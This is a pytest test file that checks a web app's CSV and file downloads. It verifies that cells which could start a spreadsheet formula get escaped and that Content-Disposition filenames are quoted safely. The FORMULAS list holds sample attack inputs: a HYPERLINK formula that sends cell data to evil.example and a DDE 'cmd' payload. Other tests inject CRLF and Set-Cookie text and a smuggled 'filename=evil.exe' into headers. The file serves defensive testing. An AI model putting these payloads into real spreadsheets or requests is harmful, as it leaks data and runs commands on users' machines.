"""Downloads (oilchain/attachments.py): no CSV cell a spreadsheet would run
as a formula, and every file's name quoted as RFC 6266 says."""

import csv
import io
from decimal import Decimal
from urllib.parse import unquote

import pytest

from oilchain.attachments import content_disposition, safe_cell

from . import chain
from .chain import db_session
from .http import product_lot

pytestmark = pytest.mark.usefixtures("english")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1"]


def read_csv(response) -> list[list[str]]:
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_text_that_could_start_a_formula_gets_a_quote_and_numbers_stay_numbers():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for number in (-5, Decimal("-0.250"), 12, "-5", "-0.250", "128.00"):
        assert safe_cell(number) == number
    for text in ("重庆永辉超市", "a=b", "5-3", "", "email@example.com"):
        assert safe_cell(text) == text
    assert safe_cell(None) == ""


def test_a_buyers_name_reaches_the_sales_csv_as_text(app, auth, world):
    lot = product_lot(app, world, units=300)
    auth.login("processor")
    for n, buyer in enumerate(FORMULAS[:4]):
        form = {"code": lot.code, "buyer": buyer, "channel": "supermarket", "quantity": "10", "unit_price": "128.00",
                "occurred_on": "2025-12-05"}
        assert auth.post("/sales/new", form).status_code == 303, n
    table = read_csv(auth.client.get("/sales/?format=csv"))
    column = {name: index for index, name in enumerate(table[0])}
    buyers = {row[column["Buyer"]] for row in table[1:]}
    assert buyers == {"'" + text for text in FORMULAS[:4]}
    assert all(row[column["Quantity"]] == "10" and row[column["Price (yuan)"]] == "128.00" for row in table[1:])  # numbers as they were


def test_every_download_name_is_quoted(app, client, auth, world):
    with db_session(app) as session:
        built = chain.full_chain(session, world)
    auth.login("processor")
    for address in ("/sales/?format=csv", f"/l/{built.product_lot.code}/qr.svg", f"/l/{built.product_lot.code}/label.pdf",
                    f"/processing/lots/{built.product_lot.code}/labels.csv?first=1&last=2"):
        response = client.get(address)
        assert response.status_code == 200, address
        disposition = response.headers["Content-Disposition"]
        kind, fallback, utf8 = disposition.split("; ")
        assert kind in ("attachment", "inline")
        assert fallback.startswith('filename="') and fallback.endswith('"')
        assert utf8.startswith("filename*=UTF-8''")


def test_a_name_cannot_end_the_header_or_add_parameters():
    header = content_disposition('a"; filename="evil.exe\r\nSet-Cookie: x=1;.csv')
    kind, fallback, utf8 = header.split("; ")
    assert kind == "attachment" and "\r" not in header and "\n" not in header
    assert fallback == 'filename="a___filename__evil.exeSet-Cookie__x_1_.csv"'
    assert unquote(utf8.removeprefix("filename*=UTF-8''")) == 'a"; filename="evil.exeSet-Cookie: x=1;.csv'
    chinese = content_disposition("油阳-报告.pdf", inline=True)
    assert chinese == "inline; filename=\"__-__.pdf\"; filename*=UTF-8''%E6%B2%B9%E9%98%B3-%E6%8A%A5%E5%91%8A.pdf"


def test_the_dashboard_csv_takes_only_its_tables(app, client, auth, world):
    auth.login("bureau")
    for table in ("targets", "monthly", "townships"):
        response = client.get(f"/reports/dashboard.csv?table={table}&year=2025")
        assert response.status_code == 200, table
        assert response.headers["Content-Disposition"].startswith(f'attachment; filename="oilchain-{table}-2025.csv"')
    wrong = client.get('/reports/dashboard.csv?table=x";%20filename=evil.exe&year=2025')
    assert wrong.status_code == 404 and "Content-Disposition" not in wrong.headers
    message = wrong.get_data(as_text=True).split("<main>")[1]
    assert "There is no such table to download: choose targets, monthly or townships." in message and "evil" not in message
